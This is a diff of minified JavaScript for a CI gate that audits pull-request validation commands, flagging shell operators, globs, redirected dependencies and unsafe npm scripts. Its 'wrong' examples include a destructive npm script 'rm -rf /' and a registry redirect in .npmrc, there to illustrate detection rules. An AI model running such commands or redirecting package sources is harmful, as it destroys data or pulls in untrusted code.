-`,de={"target-writes":"The audit cannot tell where to."},O=`const fs = require('node:fs');
-`,Z=`setInterval(() => {}, 1000);
-`,_e=`programs: [no-such-program]
+`,ce={"target-writes":"The audit cannot tell where to."},O=`const fs = require('node:fs');
+`,ee=`setInterval(() => {}, 1000);
+`,je=`programs: [no-such-program]
 families:
   - name: no-such-program
     evolver:
       operands: plain
       match: [no-such-program check]
       not_match: [no-such-program ../x]
-`,ce=5;function J(e){return`${e.slice(0,ce).map(o=>`\`${o}\``).join(", ")}${e.length>ce?", \u2026":""}`}t(J,"pathWords");
-const le=(0,a.aO)("run",{"command-failed":(0,a.Hu)({severity:"error",title:"Validation command failed",why:"A command pa\
+`,le=5;function J(e){return`${e.slice(0,le).map(o=>`\`${o}\``).join(", ")}${e.length>le?", \u2026":""}`}t(J,"pathWords");
+const me=(0,a.aO)("run",{"command-failed":(0,a.Hu)({severity:"error",title:"Validation command failed",why:"A command pa\
 sses when it exits with code 0 and fails with any other code. The later commands of the gene are skipped.",wrong:l(`cons\
 ole.error('Missing required.txt');
 process.exit(1);
@@ -969,7 +971,7 @@ etwork access, and its output reports a network error":""}.`,"message"),remedy:t
 les in the repository, or set `network: allow` in the policy.":`Run \`${e}\` in the root of the repository, fix the repor\
 ted error, and push again.`,"remedy")}),"command-timed-out":(0,a.Hu)({severity:"error",title:"Validation command exceede\
 d its time limit",why:"A command that hangs would block the pull request forever. After the time limit (180 seconds by d\
-efault), its process group is asked to terminate, and killed if it does not.",wrong:{...l(Z),policy:`limits:
+efault), its process group is asked to terminate, and killed if it does not.",wrong:{...l(ee),policy:`limits:
   command_timeout_seconds: 1
 `},right:{...l(`console.log('OK');
 `),policy:`limits:
@@ -980,7 +982,7 @@ stopped after ${s} seconds.`,"message"),remedy:t(()=>"Split the command into sma
 or.","remedy")}),"budget-spent":(0,a.Hu)({severity:"error",title:"Time limit for all commands was exceeded",why:"All com\
 mands of a run share one time limit, in addition to the time limit of each command, so that the gate can report before t\
 he job itself is stopped. When the time is up, running commands are stopped and the remaining ones do not start. A comma\
-nd that did not finish has not passed.",wrong:{...l(Z),policy:`limits:
+nd that did not finish has not passed.",wrong:{...l(ee),policy:`limits:
   budget_seconds: 1
 `},right:{...l(`console.log('OK');
 `),policy:`limits:
@@ -996,7 +998,7 @@ a process that ran out of memory, and a process that kills itself.",wrong:l(`pro
 `),message:t(({command:e,reason:s})=>`The command \`${e}\` crashed: ${s}.`,"message"),remedy:t(({command:e})=>`Run \`${e}\
 \` locally and find out why it ends.`,"remedy")}),"program-missing":(0,a.Hu)({severity:"error",title:"Program of a valid\
 ation command is not installed",why:"A command whose program the machine does not have has validated nothing, so it coun\
-ts as failed. The other genes still run.",wrong:{head:{[n.lW]:[(0,n.qy)({validation:["no-such-program check"]})]},policy:_e,
+ts as failed. The other genes still run.",wrong:{head:{[n.lW]:[(0,n.qy)({validation:["no-such-program check"]})]},policy:je,
 run:{}},right:l(`console.log('OK');
 `),message:t(({command:e,program:s})=>`The command \`${e}\` needs \`${s}\`, which was not found on PATH outside the check\
 out.`,"message"),remedy:t(({program:e})=>`Install \`${e}\` before the gate runs, in a directory outside the checkout. She\
@@ -1015,7 +1017,7 @@ Hu)({severity:"warning",title:"Validation command writes to the checkout",why:"A
 ch command has a private copy of the checkout, so its output files are discarded when it ends, and a later command that \
 needs them fails. Caches are not reported.",wrong:{...l(`${O}fs.writeFileSync('report.txt', 'OK');
 `),policy:K},right:{...l(`${O}fs.writeFileSync(process.env.TMPDIR + '/report.txt', 'OK');
-`),policy:K,also:de},configure:`caches:
+`),policy:K,also:ce},configure:`caches:
   - '**/.cache/**'
   - 'coverage/**'`,message:t(({command:e,paths:s})=>`The command \`${e}\` wrote to the checkout: ${J(s)}.`,"message"),remedy:t(
 ()=>"Write to the temporary directory (`TMPDIR`), or add the cache to `caches` in the policy.","remedy")}),"earlier-outp\
@@ -1029,7 +1031,7 @@ e scripts/check.js"]})],"scripts/build.js":`${O}fs.writeFileSync('built.txt', 'O
 xt';
 fs.writeFileSync(built, 'OK');
 fs.readFileSync(built);
-`),policy:K,also:de},configure:"views: gene",message:t(({command:e,path:s,writer:o})=>`The command \`${e}\` failed and me\
+`),policy:K,also:ce},configure:"views: gene",message:t(({command:e,path:s,writer:o})=>`The command \`${e}\` failed and me\
 ntions \`${s}\`, which \`${o}\` wrote to a private copy of the checkout that no longer exists.`,"message"),remedy:t(()=>"\
 Do both steps in one script, build into an ignored folder with the `prepare` input of the action, or set `views: gene` i\
 n the policy.","remedy")}),"tool-not-installed":(0,a.Hu)({severity:"error",title:"Tool is not installed",why:"A tool fro\
@@ -1051,8 +1053,9 @@ nd new files that would be used in place of existing ones, and only the remainin
  files`}: ${J(s)}.`,"message"),remedy:t(()=>"Change the command so that it reports problems and does not modify files.",
 "remedy")}),"prepare-refused":(0,a.Hu)({severity:"error",since:"0.2.0",title:"Change redirects what prepare installs",why:"\
 `prepare` runs with access to the network, and what it installs is run by commands. It does not run for a change that ed\
-its where packages come from, or that adds a dependency from git or a URL. Without it, commands that need dependencies o\
-r build outputs do not run.",wrong:{...l(`console.log('OK');
+its where packages come from, adds a dependency from git or a URL, or lets a lockfile download from a host that the base\
+ does not use, nor for one that weakens the gate until it is approved. Without it, commands that need dependencies or bu\
+ild outputs do not run.",wrong:{...l(`console.log('OK');
 `),head:{...l(`console.log('OK');
 `).head,".npmrc":`registry=http://localhost/
 `},run:{prepare:"node --version"}},right:{...l(`console.log('OK');
@@ -1100,7 +1103,7 @@ eckout, where they also see untracked and ignored files.",wrong:{...l(`console.l
 out itself${e===0?"":`, with ${e===1?"one file or folder":`${e} files and folders`} that ${e===1?"is":"are"} not in the \
 commit`}.`,"message"),remedy:t(()=>"Run the gate on Linux with namespaces, or install fewer dependencies.","remedy")}),"\
 run-interrupted":(0,a.Hu)({severity:"error",title:"Run was interrupted",why:"A canceled job or an interrupted terminal l\
-eaves commands without a result. A command that did not run has not passed.",wrong:{...l(Z),run:{cancelled:!0}},right:l(
+eaves commands without a result. A command that did not run has not passed.",wrong:{...l(ee),run:{cancelled:!0}},right:l(
 `console.log('OK');
 `),message:t(({skipped:e})=>`The run was interrupted before ${e===1?"one command":`${e} commands`} finished.`,"message"),
 remedy:t(()=>"Run the gate again.","remedy")}),"part-of-run":(0,a.Hu)({severity:"notice",since:"0.2.0",title:"Report cov\
@@ -1110,16 +1113,16 @@ ene fails, but only all shards together can show that all genes pass. A shard wh
 gene_a"},{id:"gene_b"}),run:{shard:"1/2"}},right:{...(0,n.hM)({id:"gene_a"},{id:"gene_b"}),run:{}},message:t(({index:e,of:s,
 genes:o})=>`This report covers only shard ${e} of ${s}, with ${o===1?"one gene":`${o} genes`}.`,"message"),remedy:t(()=>"\
 Merge the reports of all shards with `gene-gate merge`, or with `mode: report` in the action.","remedy")})});var V=u(77195);
-function je(e){const s=`if \`${e}\` is data, quote it`;return e==="&&"||e===";"?`Write each command that checks somethin\
+function Te(e){const s=`if \`${e}\` is data, quote it`;return e==="&&"||e===";"?`Write each command that checks somethin\
 g as a separate entry; ${s}.`:e==="||"?`Keep the command that must succeed and remove the rest, which hides a failure; ${s}\
-.`:e.startsWith("|")?`Move both steps into one script and run it with \`node\`; ${s}.`:`Remove \`${e}\`; ${s}.`}t(je,"re\
-medyFor");function Te(e,s,o,r){if(!r)return`\`${e}\` expands to the names of the files that exist.`;if(o===0)return`\`${e}\
+.`:e.startsWith("|")?`Move both steps into one script and run it with \`node\`; ${s}.`:`Remove \`${e}\`; ${s}.`}t(Te,"re\
+medyFor");function xe(e,s,o,r){if(!r)return`\`${e}\` expands to the names of the files that exist.`;if(o===0)return`\`${e}\
 \` matches no file and is passed unchanged.`;const T=o>s.length?` and ${o-s.length} more`:"";return`\`${e}\` expands to ${s.
-map(B=>`\`${B}\``).join(", ")}${T}.`}t(Te,"globMessage");const xe={bracket:"shells disagree about its brackets",dot:"it \
+map(z=>`\`${z}\``).join(", ")}${T}.`}t(xe,"globMessage");const Ae={bracket:"shells disagree about its brackets",dot:"it \
 matches the directory itself in some shells",empty_segment:"shells disagree about an empty path segment",letters:"a lett\
 er in a file name counts as one or several characters, depending on the locale",symlink:"it leads through a symbolic lin\
 k or a submodule",file_name:"a matching file name contains a character that is not allowed in commands",too_many:"there \
-are too many patterns or matching files"},Ae=(0,a.aO)("syntax",{"empty-command":(0,a.Hu)({severity:"error",title:"Comman\
+are too many patterns or matching files"},He=(0,a.aO)("syntax",{"empty-command":(0,a.Hu)({severity:"error",title:"Comman\
 d is empty or has no program",why:"A command that runs nothing validates nothing, and a shell reports success for it.",wrong:"\
 NODE_ENV=test",right:{command:"NODE_ENV=test node scripts/validate.js",also:{"environment-assignment":"The remaining var\
 iable is allowed."}},message:t(()=>"The command does not name a program to run.","message"),remedy:t(()=>"Write a progra\
@@ -1139,7 +1142,7 @@ itory and pass the path of the file.","remedy")}),"shell-operator":(0,a.Hu)({sev
 shell operator",why:"Commands run without a shell, one process per command, so that what runs is exactly what was audite\
 d. A shell reads `;`, `&`, and `|` as the end of one command and the start of another.",wrong:"node scripts/a.js && node\
  scripts/b.js",right:"node scripts/a.js",message:t(({operator:e})=>`The command contains the shell operator \`${e}\`, but\
- commands run without a shell.`,"message"),remedy:t(({operator:e})=>je(e),"remedy")}),"shell-redirection":(0,a.Hu)({severity:"\
+ commands run without a shell.`,"message"),remedy:t(({operator:e})=>Te(e),"remedy")}),"shell-redirection":(0,a.Hu)({severity:"\
 error",title:"Command redirects input or output",why:"Commands run without a shell, so nothing opens the file and the pr\
 ogram receives the redirection as an argument. In a shell, a redirection can write any file that the user can write.",wrong:"\
 node scripts/validate.js > report.txt",right:"node scripts/validate.js --output report.txt",message:t(({operator:e})=>`T\
@@ -1239,7 +1242,7 @@ ts/ok.js"',message:t(({word:e,looks_like:s,characters:o})=>`\`${e}\` looks like 
 "message"),remedy:t(()=>"Type the word in ASCII letters.","remedy")}),"unquoted-glob":(0,a.Hu)({severity:"warning",title:"\
 Command contains an unquoted glob pattern",why:"The result of a glob pattern depends on which files exist. The gate expa\
 nds the pattern against the audited files, in byte order, and reports the result. A quoted pattern means the same everyw\
-here.",wrong:"node --test test/*.test.js",right:"node --test 'test/*.test.js'",message:t(({pattern:e,matches:s,count:o,judged:r})=>Te(
+here.",wrong:"node --test test/*.test.js",right:"node --test 'test/*.test.js'",message:t(({pattern:e,matches:s,count:o,judged:r})=>xe(
 e,s,o,r),"message"),remedy:t(({pattern:e})=>`Name the files, or quote the pattern, \`${(0,V.f)(e)}\`, if it is data or th\
 e tool expands it.`,"remedy")}),"glob-outside":(0,a.Hu)({severity:"error",title:"Glob pattern leads out of the repositor\
 y",why:"Names of files outside the repository do not belong in a report, and they differ from machine to machine.",wrong:"\
@@ -1256,7 +1259,7 @@ wrong:"node *",right:"node scripts/validate.js",message:t(({pattern:e})=>`The gl
 e what runs.`,"message"),remedy:t(()=>"Name the program and the script; write a separate entry for each script.","remedy")}),
 "glob-unclear":(0,a.Hu)({severity:"error",title:"Glob pattern is ambiguous",why:"Shells or locales disagree about the pa\
 ttern, or it leads through a link, so the arguments depend on the machine.",wrong:"node scripts/validate.js [^a]*",right:"\
-node scripts/validate.js '[^a]*'",message:t(({pattern:e,reason:s})=>`The glob pattern \`${e}\` is ambiguous: ${xe[s]}.`,
+node scripts/validate.js '[^a]*'",message:t(({pattern:e,reason:s})=>`The glob pattern \`${e}\` is ambiguous: ${Ae[s]}.`,
 "message"),remedy:t(({pattern:e})=>`Name the files, or quote the pattern, \`${(0,V.f)(e)}\`, if it is data.`,"remedy")}),
 "environment-assignment":(0,a.Hu)({severity:"warning",title:"Command sets an environment variable",why:"The gate adds th\
 e variable to the environment of this command, as a shell does. It reports the variable because the command can behave d\
@@ -1277,69 +1280,73 @@ rge them.",wrong:"node scripts/echo.js '::warning::all is well'",right:"node scr
 ontains markup that hides text in reports",why:"An HTML comment hides the text after it from reviewers, and a code fence\
  ends the block that shows the command.",wrong:"node scripts/echo.js '<!-- x -->'",right:"node scripts/echo.js 'x'",message:t(
 ({written:e})=>`\`${e}\` hides or breaks the text around it where the command is displayed.`,"message"),remedy:t(()=>"Re\
-move the markup, or read the text from a file.","remedy")})}),He=JSON.stringify({scripts:Object.fromEntries(Array.from({
+move the markup, or read the text from a file.","remedy")})}),Ce=JSON.stringify({scripts:Object.fromEntries(Array.from({
 length:66},(e,s)=>[String(s),s<65?`npm run ${s+1}`:"node x.js"]))});function Y(e){return JSON.stringify({name:"example",
 devDependencies:{eslint:e}})}t(Y,"packageUsing");function G(e,s){const o=`https://registry.npmjs.org/${e}/-/${e}-${s}.tg\
 z`,r={...e!=="eslint"&&{name:e},version:s,resolved:o,bin:{eslint:"bin.js"}};return JSON.stringify({lockfileVersion:3,packages:{
-"node_modules/eslint":r}})}t(G,"locking");const Ce={alias:t((e,s)=>`installs the package \`${s}\` under the name \`${e}\``,
-"alias"),file:t((e,s)=>`installs \`${e}\` from \`${s}\`, outside the repository`,"file"),git:t((e,s)=>`installs \`${e}\` \
-from the git repository \`${s}\``,"git"),host:t((e,s)=>`installs \`${e}\` from the host \`${s}\`, which the base branch d\
-oes not use`,"host"),integrity:t((e,s)=>`has other content for the same version of \`${e}\`: \`${s}\``,"integrity"),tarball:t(
-(e,s)=>`installs \`${e}\` from the archive \`${s}\``,"tarball")},We={directory:"it names a directory without a main file",
-submodule:"it names a submodule",backslash:"it contains a backslash",loop:"its symbolic links form a loop"};function z(e){
-return e.map(s=>`\`${s}\``).join(", ")}t(z,"inCode");const Re=(0,a.aO)("target",{"target-outside":(0,a.Hu)({severity:"er\
-ror",title:"Command runs a file outside the repository",why:"Only the contents of the commit have been reviewed. A path \
-that leads out of the repository, directly or through a symbolic link, names a file of one machine.",wrong:"node ../othe\
-r/check.js",right:"node scripts/check.js",message:t(({path:e,reason:s})=>s==="symlink"?`\`${e}\` is a symbolic link that \
-leads out of the repository.`:s==="address"?`\`${e}\` is a URL, not a path in the repository.`:s==="workspace"?`The work\
-spaces \`${e}\` can lead out of the repository.`:`\`${e}\` is outside the repository.`,"message"),remedy:t(()=>"Add the \
-file to the repository and use its path relative to the root.","remedy")}),"target-in-git":(0,a.Hu)({severity:"error",title:"\
-Command runs a file in the .git directory",why:"Files in `.git` are not part of any commit or diff.",wrong:"node .git/ho\
-oks/check",right:"node scripts/check.js",message:t(({path:e})=>`\`${e}\` is in the \`.git\` directory, which is not part of\
- any commit.`,"message"),remedy:t(()=>"Move the script out of `.git` and commit it.","remedy")}),"target-missing":(0,a.Hu)(
-{severity:"error",title:"Command runs a file that does not exist",why:"Commands see the audited commit, installed depend\
-encies, what `prepare` wrote, and the files that `build_outputs` in the policy names. A file on disk that is none of the\
-se has not been reviewed.",wrong:"node scripts/chek.js",right:"node scripts/check.js",message:t(({path:e})=>`\`${e}\` doe\
-s not exist in the repository at this commit.`,"message"),remedy:t(()=>"Add the file to the change, or correct the path.\
- If a build writes the file, run the build in `prepare`, or name the file in `build_outputs` in the policy of the base b\
-ranch.","remedy")}),"target-not-judged":(0,a.Hu)({severity:"notice",since:"0.2.0",title:"Target is judged when commands \
-run",why:"The first half of the audit reads only the commit. Dependencies, build outputs, and what `prepare` writes are \
-judged in the second half, after `prepare` and before anything else runs. Without a run, there is no second half.",wrong:{
-command:"node dist/main.js",firstHalf:!0},right:{command:"node scripts/check.js",firstHalf:!0},message:t(({path:e})=>`\`${e}\
-\` is not in the commit. It is judged when commands run, after \`prepare\`.`,"message"),remedy:t(()=>"Run the gate with \
-its commands to judge it.","remedy")}),"test-pattern-empty":(0,a.Hu)({severity:"warning",title:"Test pattern matches no \
-file",why:"Node.js 22 and later exit with code 0 if a pattern matches no file, so that nothing is validated.",wrong:"nod\
-e --test 'tset/**/*.js'",right:"node --test 'test/**/*.js'",message:t(({pattern:e})=>`The pattern \`${e}\` matches no fil\
-e of this commit.`,"message"),remedy:t(()=>"Correct the pattern, or add the tests to the change.","remedy")}),"target-no\
-t-a-file":(0,a.Hu)({severity:"error",title:"Command runs a path that is not a regular file",why:"Node.js runs a director\
-y only if it has a main file: the `main` of its package.json, or `index.js`. A loop of symbolic links or a path with bac\
-kslashes has different meanings on different machines.",wrong:"node scripts",right:"node src",message:t(({path:e,reason:s})=>`\
-\`${e}\` is not the path of a regular file: ${We[s]??s}.`,"message"),remedy:t(({reason:e})=>e==="directory"?"Name a file\
- in the directory.":e==="backslash"?"Write the path with forward slashes.":"Name a regular file.","remedy")}),"target-ex\
-tension":(0,a.Hu)({severity:"error",title:"Node.js does not run this type of file",why:"Node.js runs `.js`, `.mjs`, `.cj\
-s`, and, in newer versions, `.ts` files. It loads `.node` files as native code.",wrong:"node data.json",right:"node scri\
-pts/check.js",message:t(({path:e,extension:s})=>`\`${e}\` has the extension \`.${s}\`, which Node.js does not run.`,"mes\
-sage"),remedy:t(()=>"Use a `.js`, `.mjs`, or `.cjs` file.","remedy")}),"target-untracked":(0,a.Hu)({severity:"error",title:"\
-Command runs a file that is not in the commit",why:"The file has not been reviewed, and the machine that runs the valida\
-tion may not have it.",wrong:{command:"node node_modules/check.js",files:{"node_modules/check.js":"process.exit(0);"}},right:"\
-node scripts/check.js",message:t(({path:e})=>`\`${e}\` is not part of the audited commit.`,"message"),remedy:t(()=>"Comm\
-it the file, or run its source.","remedy")}),"dependency-unverified":(0,a.Hu)({severity:"error",title:"Code of a package\
- is not verified",why:"A package is trusted if package.json declares it, the lockfile fixes its contents, and it is inst\
-alled rather than committed.",wrong:{command:"npx tool-of-a-dependency",files:{"node_modules/.bin/tool-of-a-dependency":{
-symlink:"../dependency/tool.js"},"node_modules/dependency/tool.js":"#!/usr/bin/env node"}},right:"npx eslint src",message:t(
-({name:e,path:s,fault:o})=>o==="committed"?`\`${s}\` of the package \`${e}\` is committed, so a change can edit it.`:o===
-"elsewhere"?`\`${e}\` leads to \`${s}\`, which does not belong to a package.`:`The package \`${e}\` is not ${o==="unlock\
-ed"?"in the lockfile":"declared in package.json"}.`,"message"),remedy:t(({name:e,fault:s})=>s==="committed"||s==="elsewh\
-ere"?"Add `node_modules` to `.gitignore` and install the package.":`Add \`${e}\` to \`devDependencies\` and commit the lock\
-file.`,"remedy")}),"dependency-redirected":(0,a.Hu)({severity:"error",title:"Change takes a dependency from elsewhere",why:"\
-A tool that a command starts must be the package of its name from a registry that the base branch uses. An alias, a git \
-repository, an archive of another address, a path outside the repository, an unknown registry host, or other content und\
-er the same version is the code of somebody else. What the base branch already has is accepted.",wrong:{command:"npx esl\
-int src",base:{"package.json":Y("9.0.0"),"package-lock.json":G("eslint","9.0.0")},files:{"package.json":Y("npm:lint@1"),
-"package-lock.json":G("lint","1.0.0")}},right:{command:"npx eslint src",base:{"package.json":Y("9.0.0"),"package-lock.js\
-on":G("eslint","9.0.0")},files:{"package.json":Y("9.0.0"),"package-lock.json":G("eslint","9.0.0")}},message:t(({name:e,path:s,
-how:o,to:r})=>`\`${s}\` ${Ce[o](e,r)}.`,"message"),remedy:t(({name:e})=>`Use \`${e}\` from a registry that the base branc\
-h uses, or add the dependency to the base branch first.`,"remedy")}),"dependency-changed":(0,a.Hu)({severity:"notice",title:"\
+"node_modules/eslint":r}})}t(G,"locking");const Q={"package.json":'{ "workspaces": ["pk/*"] }',"pk/a/package.json":'{ "n\
+ame": "a", "scripts": { "test": "node --test" } }',"pk/b/package.json":'{ "name": "b", "scripts": { "test": "node --test\
+" } }'},Re={alias:t((e,s)=>`installs the package \`${s}\` under the name \`${e}\``,"alias"),file:t((e,s)=>`installs \`${e}\
+\` from \`${s}\`, outside the repository`,"file"),git:t((e,s)=>`installs \`${e}\` from the git repository \`${s}\``,"git"),
+host:t((e,s)=>`installs \`${e}\` from the host \`${s}\`, which the base branch does not use`,"host"),integrity:t((e,s)=>`\
+has other content for the same version of \`${e}\`: \`${s}\``,"integrity"),tarball:t((e,s)=>`installs \`${e}\` from the a\
+rchive \`${s}\``,"tarball")},We={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"\
+it contains a backslash",loop:"its symbolic links form a loop"};function B(e){return e.map(s=>`\`${s}\``).join(", ")}t(B,
+"inCode");const qe=(0,a.aO)("target",{"target-outside":(0,a.Hu)({severity:"error",title:"Command runs a file outside the\
+ repository",why:"Only the contents of the commit have been reviewed. A path that leads out of the repository, directly \
+or through a symbolic link, names a file of one machine.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:t(
+({path:e,reason:s})=>s==="symlink"?`\`${e}\` is a symbolic link that leads out of the repository.`:s==="address"?`\`${e}\
+\` is a URL, not a path in the repository.`:s==="workspace"?`The workspaces \`${e}\` can lead out of the repository.`:`\`${e}\
+\` is outside the repository.`,"message"),remedy:t(()=>"Add the file to the repository and use its path relative to the \
+root.","remedy")}),"target-in-git":(0,a.Hu)({severity:"error",title:"Command runs a file in the .git directory",why:"Fil\
+es in `.git` are not part of any commit or diff.",wrong:"node .git/hooks/check",right:"node scripts/check.js",message:t(
+({path:e})=>`\`${e}\` is in the \`.git\` directory, which is not part of any commit.`,"message"),remedy:t(()=>"Move the \
+script out of `.git` and commit it.","remedy")}),"target-missing":(0,a.Hu)({severity:"error",title:"Command runs a file \
+that does not exist",why:"Commands see the audited commit, installed dependencies, what `prepare` wrote, and the files t\
+hat `build_outputs` in the policy names. A file on disk that is none of these has not been reviewed.",wrong:"node script\
+s/chek.js",right:"node scripts/check.js",message:t(({path:e})=>`\`${e}\` does not exist in the repository at this commit.`,
+"message"),remedy:t(()=>"Add the file to the change, or correct the path. If a build writes the file, run the build in `\
+prepare`, or name the file in `build_outputs` in the policy of the base branch.","remedy")}),"target-not-judged":(0,a.Hu)(
+{severity:"notice",since:"0.2.0",title:"Target is judged when commands run",why:"The first half of the audit reads only \
+the commit. Dependencies, build outputs, and what `prepare` writes are judged in the second half, after `prepare` and be\
+fore anything else runs. Without a run, there is no second half.",wrong:{command:"node dist/main.js",firstHalf:!0},right:{
+command:"node scripts/check.js",firstHalf:!0},message:t(({path:e})=>`\`${e}\` is not in the commit. It is judged when com\
+mands run, after \`prepare\`.`,"message"),remedy:t(()=>"Run the gate with its commands to judge it.","remedy")}),"test-p\
+attern-empty":(0,a.Hu)({severity:"warning",title:"Test pattern matches no file",why:"Node.js 22 and later exit with code\
+ 0 if a pattern matches no file, so that nothing is validated.",wrong:"node --test 'tset/**/*.js'",right:"node --test 't\
+est/**/*.js'",message:t(({pattern:e})=>`The pattern \`${e}\` matches no file of this commit.`,"message"),remedy:t(()=>"C\
+orrect the pattern, or add the tests to the change.","remedy")}),"target-not-a-file":(0,a.Hu)({severity:"error",title:"C\
+ommand runs a path that is not a regular file",why:"Node.js runs a directory only if it has a main file: the `main` of i\
+ts package.json, or `index.js`. A loop of symbolic links or a path with backslashes has different meanings on different \
+machines.",wrong:"node scripts",right:"node src",message:t(({path:e,reason:s})=>`\`${e}\` is not the path of a regular fi\
+le: ${We[s]??s}.`,"message"),remedy:t(({reason:e})=>e==="directory"?"Name a file in the directory.":e==="backslash"?"Wri\
+te the path with forward slashes.":"Name a regular file.","remedy")}),"target-extension":(0,a.Hu)({severity:"error",title:"\
+Node.js does not run this type of file",why:"Node.js runs `.js`, `.mjs`, `.cjs`, and, in newer versions, `.ts` files. It\
+ loads `.node` files as native code.",wrong:"node data.json",right:"node scripts/check.js",message:t(({path:e,extension:s})=>`\
+\`${e}\` has the extension \`.${s}\`, which Node.js does not run.`,"message"),remedy:t(()=>"Use a `.js`, `.mjs`, or `.cj\
+s` file.","remedy")}),"target-untracked":(0,a.Hu)({severity:"error",title:"Command runs a file that is not in the commit",
+why:"The file has not been reviewed, and the machine that runs the validation may not have it.",wrong:{command:"node nod\
+e_modules/check.js",files:{"node_modules/check.js":"process.exit(0);"}},right:"node scripts/check.js",message:t(({path:e})=>`\
+\`${e}\` is not part of the audited commit.`,"message"),remedy:t(()=>"Commit the file, or run its source.","remedy")}),"\
+dependency-unverified":(0,a.Hu)({severity:"error",title:"Code of a package is not verified",why:"A package is trusted if\
+ package.json declares it, the lockfile fixes its contents, and it is installed rather than committed.",wrong:{command:"\
+npx tool-of-a-dependency",files:{"node_modules/.bin/tool-of-a-dependency":{symlink:"../dependency/tool.js"},"node_module\
+s/dependency/tool.js":"#!/usr/bin/env node"}},right:"npx eslint src",message:t(({name:e,path:s,fault:o})=>o==="committed"?
+`\`${s}\` of the package \`${e}\` is committed, so a change can edit it.`:o==="elsewhere"?`\`${e}\` leads to \`${s}\`, wh\
+ich does not belong to a package.`:o==="removed"?`The change removes the package \`${e}\` from the lockfile.`:`The packa\
+ge \`${e}\` is not ${o==="unlocked"?"in the lockfile":"declared in package.json"}.`,"message"),remedy:t(({name:e,fault:s})=>s===
+"committed"||s==="elsewhere"?"Add `node_modules` to `.gitignore` and install the package.":s==="removed"?"Restore the lo\
+ckfile of the base branch, and update it with the package manager.":`Add \`${e}\` to \`devDependencies\` and commit the loc\
+kfile.`,"remedy")}),"dependency-redirected":(0,a.Hu)({severity:"error",title:"Change takes a dependency from elsewhere",
+why:"A tool that a command starts must be the package of its name from a registry that the base branch uses. An alias, a\
+ git repository, an archive of another address, a path outside the repository, an unknown registry host, or other conten\
+t under the same version is the code of somebody else. What the base branch already has is accepted.",wrong:{command:"np\
+x eslint src",base:{"package.json":Y("9.0.0"),"package-lock.json":G("eslint","9.0.0")},files:{"package.json":Y("npm:lint\
+@1"),"package-lock.json":G("lint","1.0.0")}},right:{command:"npx eslint src",base:{"package.json":Y("9.0.0"),"package-lo\
+ck.json":G("eslint","9.0.0")},files:{"package.json":Y("9.0.0"),"package-lock.json":G("eslint","9.0.0")}},message:t(({name:e,
+path:s,how:o,to:r})=>`\`${s}\` ${Re[o](e,r)}.`,"message"),remedy:t(({name:e,how:s})=>s==="integrity"?"Restore the entry \
+of the base branch: the content of a published version does not change.":`Use \`${e}\` from a registry that the base bran\
+ch uses, or add the dependency to the base branch first.`,"remedy")}),"dependency-changed":(0,a.Hu)({severity:"notice",title:"\
 Change updates a tool that validates it",why:"The command starts another version of the package than on the base branch,\
  so a reviewer should look at the update.",wrong:{command:"npx eslint src",base:{"package-lock.json":G("eslint","9.0.0")},
 files:{"package-lock.json":G("eslint","9.1.0")}},right:"npx eslint src",message:t(({name:e,from:s,to:o})=>s===""?`The ch\
@@ -1379,7 +1386,7 @@ to what validates.",wrong:{command:"make test",policy:`programs: [make]
 `,files:{Makefile:`test:
 	node scripts/check.js
 `}},right:"node scripts/check.js",counted:["files","count"],message:t(({program:e,files:s,count:o})=>`\`${e}\` runs what \
-the build files of the commit say, which the gate does not read: ${z(s)}${o>s.length?`, and ${o-s.length} more`:""}.`,"m\
+the build files of the commit say, which the gate does not read: ${B(s)}${o>s.length?`, and ${o-s.length} more`:""}.`,"m\
 essage"),remedy:t(()=>"Review the build files as carefully as the command.","remedy")}),"target-changed":(0,a.Hu)({severity:"\
 notice",title:"Change edits the file that validates it",why:"The validation changed together with the code that it valid\
 ates, so a passing result proves less.",wrong:{command:"node scripts/check.js",base:{"scripts/check.js":`throw new Error\
@@ -1395,96 +1402,113 @@ t)"}},right:{command:"node scripts/check.js",files:{"scripts/check.js":"assert.e
 title:"npm script does not exist",why:"The command fails when it runs. With `--if-present`, it passes without doing anyt\
 hing.",wrong:"npm run chek",right:"npm run check",message:t(({script:e,passes:s})=>s?`package.json has no script \`${e}\`\
 , and \`--if-present\` makes the command pass.`:`package.json has no script \`${e}\`.`,"message"),remedy:t(()=>"Add the \
-script to package.json, or correct its name.","remedy")}),"npm-script-text":(0,a.Hu)({severity:"warning",title:"npm scri\
-pt breaks a rule for commands",why:"npm passes a script of package.json to a shell, and the script is reviewed as shell \
-text. This script does something that is blocked in a validation command.",wrong:{command:"npm test",files:{"package.jso\
-n":'{ "scripts": { "test": "touch x" } }'}},right:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "nod\
-e scripts/check.js" } }'}},message:t(({script:e,text:s,reason:o})=>`The npm script \`${e}\` runs \`${s}\`, which breaks t\
-he rule \`${o}\`.`,"message"),remedy:t(()=>"Use only Node scripts and local tools in the script.","remedy")}),"npm-scrip\
-t-loses-failure":(0,a.Hu)({severity:"warning",title:"npm script passes although one of its commands fails",why:"A shell \
-reports the exit code of the last command. After `|| true`, `;`, or `|`, the failure of an earlier command is lost, and \
-the validation passes.",wrong:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "node scripts/check.js |\
-| true" } }'},also:{"npm-script-compound":"The script is more than one command."}},right:{command:"npm test",files:{"pac\
-kage.json":'{ "scripts": { "test": "node scripts/check.js" } }'}},message:t(({script:e,text:s,command:o})=>`The npm scri\
-pt \`${e}\` runs \`${s}\`, which passes even if \`${o}\` fails.`,"message"),remedy:t(()=>"Join the commands with `&&`, o\
-r run only the one that validates.","remedy")}),"npm-script-compound":(0,a.Hu)({severity:"notice",title:"npm script is m\
-ore than one simple command",why:"The gate does not follow every detail of what a shell does with the script, so the scr\
-ipt is shown.",wrong:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "node scripts/a.js && node script\
-s/b.js" } }'}},right:{command:"npm test",files:{"package.json":'{ "scripts": { "test": "node scripts/a.js" } }'}},message:t(
-({script:e,text:s})=>`The npm script \`${e}\` runs \`${s}\`.`,"message"),remedy:t(()=>"Review the script as part of the \
-command.","remedy")}),"npm-script-dangerous":(0,a.Hu)({severity:"error",title:"npm script is destructive",why:"The scrip\
-t deletes files, formats disks, pipes a download into a shell, or does similar damage. No validation needs this.",wrong:{
-command:"npm run clean",files:{"package.json":'{ "scripts": { "clean": "rm -rf /" } }'}},right:{command:"npm test",files:{
-"package.json":'{ "scripts": { "test": "node --test" } }'}},message:t(({script:e,text:s,danger:o})=>`The npm script \`${e}\
